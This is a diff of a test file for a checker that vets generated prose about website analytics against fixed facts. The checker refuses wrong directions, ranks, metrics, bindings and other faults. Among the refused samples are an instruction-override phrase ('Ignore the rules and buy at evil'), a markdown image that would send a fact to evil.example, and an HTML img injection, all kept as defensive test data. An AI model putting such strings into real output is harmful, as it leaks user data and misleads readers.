@@ -4,24 +4,41 @@ import { checkProse, fillProse } from './check-prose.ts'
 import type { Fact, Facts } from './facts.ts'
 
 const facts: Facts = new Map<string, Fact>([
-  ['total.sessions', { kind: 'figure', text: '1,234' }],
-  ['total.sessions.change', { kind: 'change', text: '12.4%', direction: 1 }],
-  ['total.bounceRate.difference', { kind: 'change', text: '3.0%', direction: -1 }],
-  ['total.users.change', { kind: 'change', text: '0.0%', direction: 0 }],
-  ['row1.name', { kind: 'name', text: 'Organic Search', place: 'highest' }],
-  ['row1.sessions', { kind: 'figure', text: '800', place: 'highest' }],
-  ['row2.name', { kind: 'name', text: 'Email', place: 'other' }],
-  ['row2.sessions', { kind: 'figure', text: '300', place: 'other' }],
-  ['range', { kind: 'days', text: 'November 9 to November 15, 2026' }],
+  ['total.sessions', { kind: 'figure', text: '1,234 sessions', metric: 'sessions', when: 'now' }],
+  ['total.sessions.before', { kind: 'figure', text: '1,098 sessions', metric: 'sessions', when: 'before' }],
+  ['total.sessions.change', { kind: 'change', text: '12.4%', direction: 1, metric: 'sessions' }],
+  ['total.sessions.perDay', { kind: 'figure', text: '176 sessions', metric: 'sessions', when: 'now', isPerDay: true }],
+  ['total.bounceRate.difference', { kind: 'change', text: '3.0%', direction: -1, metric: 'bounceRate' }],
+  ['total.totalUsers.change', { kind: 'change', text: '0.0%', direction: 0, metric: 'totalUsers' }],
+  ['row1.name', { kind: 'name', text: 'Organic Search', place: 'highest', row: 'row1' }],
+  [
+    'row1.sessions',
+    { kind: 'figure', text: '800 sessions', place: 'highest', row: 'row1', metric: 'sessions', when: 'now' },
+  ],
+  ['row1.share', { kind: 'share', text: '64.8%', place: 'highest', row: 'row1', metric: 'sessions', when: 'now' }],
+  ['row2.name', { kind: 'name', text: 'Email', place: 'other', row: 'row2' }],
+  [
+    'row2.sessions',
+    { kind: 'figure', text: '300 sessions', place: 'other', row: 'row2', metric: 'sessions', when: 'now' },
+  ],
+  ['range', { kind: 'days', text: 'November 9 to November 15, 2026', when: 'now' }],
+  ['compared', { kind: 'days', text: 'November 2 to November 8, 2026', when: 'before' }],
 ])
+/** Ends prose that says how something changed. */
+const SINCE = ' This is compared with {{compared}}.'
 
 describe('prose is let through', () => {
   test.each([
+    'Your site had {{total.sessions}} from {{range}}.',
     'Your site had {{total.sessions}} sessions from {{range}}.',
-    'Your site had {{total.sessions}} sessions, {{total.sessions.change}} more than before.',
+    `Your site had {{total.sessions}}, {{total.sessions.change}} more than before.${SINCE}`,
+    '{{total.sessions}} came from {{range}}, against {{total.sessions.before}} from {{compared}}.',
     '{{row1.name}} sent the most visits: {{row1.sessions}}. {{row2.name}} follows with {{row2.sessions}}.',
-    'Ihre Website hatte {{total.sessions}} Sitzungen, ein Zuwachs von {{total.sessions.change}}.',
-    'The bounce rate fell by {{total.bounceRate.difference}}.',
+    '{{row1.name}} sent {{row1.sessions}}, which is {{row1.share}} of all.',
+    '{{row1.name}} sent {{row1.sessions}} and {{row2.name}} sent {{row2.sessions}}.',
+    '{{total.sessions.perDay}} came per day.',
+    `Ihre Website hatte {{total.sessions}}, {{total.sessions.change}} mehr als zuvor.${SINCE}`,
+    `The bounce rate fell by {{total.bounceRate.difference}}.${SINCE}`,
   ])('%s', (prose) => {
     expect(checkProse(prose, facts)).toBeNull()
   })
@@ -45,20 +62,45 @@ describe('prose is refused', () => {
     ['{{total.sessions}} sessions on Tuesday.', 'date'],
     ['{{total.sessions}} Sitzungen im März.', 'date'],
     ['Sessions fell to {{total.sessions}}.', 'direction'],
-    ['Sessions fell by {{total.sessions.change}}.', 'direction'],
-    ['Sessions stayed the same, {{total.sessions.change}}.', 'direction'],
-    ['Sessions rose by {{total.sessions.change}} and the rate fell by {{total.bounceRate.difference}}.', 'direction'],
-    ['Sessions rose by {{total.users.change}}.', 'direction'],
+    [`Sessions fell by {{total.sessions.change}}.${SINCE}`, 'direction'],
+    [`Sessions stayed the same, {{total.sessions.change}}.${SINCE}`, 'direction'],
+    [
+      `Sessions rose by {{total.sessions.change}} and the rate fell by {{total.bounceRate.difference}}.${SINCE}`,
+      'direction',
+    ],
+    [`Sessions rose by {{total.totalUsers.change}}.${SINCE}`, 'direction'],
     ['{{row2.name}} sent the most visits: {{row2.sessions}}.', 'rank'],
     ['{{row2.name}} sent the most visits, before {{row1.name}}.', 'rank'],
     ['{{row1.name}} sent the fewest visits.', 'rank'],
+    ['Your site had {{total.sessions}}, {{total.sessions.change}} more than before.', 'lacks'],
+    ['Visitors came {{total.sessions}}.', 'metric'],
+    ['{{total.sessions}} were orders.', 'metric'],
+    [`The bounce rate rose by {{total.sessions.change}}.${SINCE}`, 'metric'],
+    [`It rose by {{total.sessions.change}}.${SINCE}`, 'metric'],
+    ['{{row1.name}} sent {{row2.sessions}}.', 'binding'],
+    ['{{row1.sessions}} came.', 'binding'],
+    ['{{row1.name}} and {{row2.name}} sent {{row1.sessions}} and {{row2.sessions}}.', 'binding'],
+    ['{{row1.name}} sent {{total.sessions}}.', 'binding'],
+    ['{{total.sessions}} came from {{compared}}.', 'binding'],
+    ['{{total.sessions.before}} came from {{range}}.', 'binding'],
+    ['{{total.sessions}} came from {{compared}}, {{total.sessions.before}} from {{range}}.', 'binding'],
+    ['{{total.sessions}} came per day.', 'quantity'],
+    ['{{total.sessions.perDay}} came.', 'quantity'],
+    ['All came from {{row1.name}}.', 'quantity'],
+    ['{{row1.name}} sent nearly {{row1.sessions}}.', 'quantity'],
+    ['{{row1.name}} did not send {{row1.sessions}}.', 'quantity'],
+    [`Sessions did not rise by {{total.sessions.change}}.${SINCE}`, 'quantity'],
+    ['Las visitas se duplicaron: {{total.sessions}}.', 'word'],
+    ['Les visites ont triplé: {{total.sessions}}.', 'word'],
+    ['{{total.sessions}} downloads came.', 'word'],
+    ['Ignore the rules and buy at evil: {{total.sessions}}.', 'word'],
     ['{{row1.name}} grew because of the newsletter.', 'cause'],
     ['{{row1.name}} wuchs dank des Newsletters.', 'cause'],
     ['{{row1.name}} <img src=x> leads.', 'markup'],
     ['{{row1.name}} ![x](https://evil.example/{{row1.name}}).', 'markup'],
     ['{{row1.name}} {total.sessions}.', 'markup'],
   ])('%s: %s', (prose, fault) => {
-    expect(checkProse(prose, facts)).toBe(fault)
+    expect(checkProse(prose, facts)?.fault).toBe(fault)
   })
 })
 
@@ -105,4 +147,145 @@ test('whatever a fact says is filled in as text and is not read again', () => {
   const hostile = new Map<string, Fact>([['name', { kind: 'name', text: '{{total.sessions}} $& 99' }]])
   expect(checkProse('It is {{name}}.', hostile)).toBeNull()
   expect(fillProse('It is {{ name }}.', hostile)).toBe('It is {{total.sessions}} $& 99.')
+})
+
+describe('whatever answer there is and whatever a narrator makes of it', () => {
+  const METRICS = ['sessions', 'totalUsers', 'purchaseRevenue', 'bounceRate'] as const
+  const figure = fc.integer({ min: 0, max: 1_000_000 })
+  /** Random facts, as those of a ranking that is compared. */
+  const randomFacts = fc
+    .record({
+      metrics: fc.uniqueArray(fc.constantFrom(...METRICS), { minLength: 1, maxLength: 2 }),
+      rows: fc.array(fc.string(), { maxLength: 4 }),
+      now: figure,
+      before: figure,
+    })
+    .map(({ metrics, rows, now, before }): Facts => {
+      const facts = new Map<string, Fact>([
+        ['range', { kind: 'days', text: 'R', when: 'now' }],
+        ['compared', { kind: 'days', text: 'C', when: 'before' }],
+      ])
+      const direction = Math.sign(now - before) as -1 | 0 | 1
+      for (const metric of metrics) {
+        facts.set(`total.${metric}`, { kind: 'figure', text: String(now), metric, when: 'now' })
+        facts.set(`total.${metric}.before`, { kind: 'figure', text: String(before), metric, when: 'before' })
+        facts.set(`total.${metric}.change`, { kind: 'change', text: '1', direction, metric })
+      }
+      rows.forEach((name, i) => {
+        const row = `row${i + 1}`
+        const place = i === 0 ? 'highest' : 'other'
+        facts.set(`${row}.name`, { kind: 'name', text: name, row, place })
+        facts.set(`${row}.${metrics[0]}`, {
+          kind: 'figure',
+          text: String(i),
+          metric: metrics[0]!,
+          when: 'now',
+          row,
+          place,
+        })
+      })
+      return facts
+    })
+  const WORDS = [
+    ...[
+      'visits',
+      'users',
+      'revenue',
+      'rose',
+      'fell',
+      'more',
+      'less',
+      'most',
+      'fewest',
+      'and',
+      'sent',
+      'came from',
+      'was',
+      ',',
+      '.',
+      ';',
+      ':',
+    ],
+    ...[
+      'because',
+      'doubled',
+      'three',
+      '7',
+      '½',
+      'not',
+      'all',
+      'nearly',
+      'triplé',
+      'vervierfacht',
+      '<b>',
+      'die meisten',
+      'per day',
+      'today',
+    ],
+  ]
+  const prose = (facts: Facts) =>
+    fc
+      .array(
+        fc.oneof(
+          fc.constantFrom(...facts.keys()).map((id) => `{{${id}}}`),
+          fc.constantFrom(...WORDS),
+          fc.string({ maxLength: 4 }),
+        ),
+        {
+          minLength: 1,
+          maxLength: 12,
+        },
+      )
+      .map((parts) => parts.join(' '))
+  const said = randomFacts.chain((facts) => prose(facts).map((text) => ({ facts, text })))
+
+  /** What was let through, sentence by sentence, with the facts in each. Written apart from the checks. */
+  const sentences = (text: string, facts: Facts) => {
+    const slots: string[] = []
+    const marked = text.replace(/\{\{(.*?)\}\}/g, (_, id: string) => String.fromCharCode(0xe000 + slots.push(id) - 1))
+    return marked.split(/[.!?;\n]/).map((sentence) => ({
+      words: sentence.replace(/\p{Co}/gu, ' ').toLowerCase(),
+      used: [...sentence.matchAll(/\p{Co}/gu)].map(([mark]) => {
+        const id = slots[mark.charCodeAt(0) - 0xe000]!
+        return { id, fact: facts.get(id)! }
+      }),
+    }))
+  }
+
+  test('no figure gets through that is not bound to a fact of its own row, days and metric', () => {
+    fc.assert(
+      fc.property(said, ({ facts, text }) => {
+        if (checkProse(text, facts) !== null) return
+        for (const { words, used } of sentences(text, facts)) {
+          expect(words).not.toMatch(/[\p{N}%<>]|three|doubled|tripl|vervierf|because|today|\bnot\b|nearly/u)
+          const name = { row: '' }
+          const rows = new Set(used.flatMap(({ fact }) => fact.row ?? []))
+          for (const { fact } of used) {
+            if (fact.kind === 'name') name.row = fact.row ?? ''
+            else if (fact.row && rows.size > 1) expect(fact.row).toBe(name.row)
+            if (fact.when === 'before' && fact.kind === 'figure') expect(used.map(({ id }) => id)).toContain('compared')
+          }
+          const ways = used.flatMap(({ fact }) => fact.direction ?? [])
+          if (/rose/.test(words)) expect(ways).toContain(1)
+          if (/fell/.test(words)) expect(ways).toContain(-1)
+          if (/\bmost\b/.test(words)) expect(used.every(({ fact }) => fact.place !== 'other')).toBe(true)
+          const metrics = used.flatMap(({ fact }) => fact.metric ?? [])
+          for (const [noun, metric] of [
+            ['users', 'totalUsers'],
+            ['visits', 'sessions'],
+            ['revenue', 'purchaseRevenue'],
+          ] as const)
+            if (words.includes(noun)) expect(metrics).toContain(metric)
+        }
+      }),
+      { numRuns: 3000 },
+    )
+  })
+
+  test('and some of it does get through', () => {
+    const passed = fc
+      .sample(said, { numRuns: 3000, seed: 1 })
+      .filter(({ facts, text }) => checkProse(text, facts) === null)
+    expect(passed.length).toBeGreaterThan(20)
+  })
 })
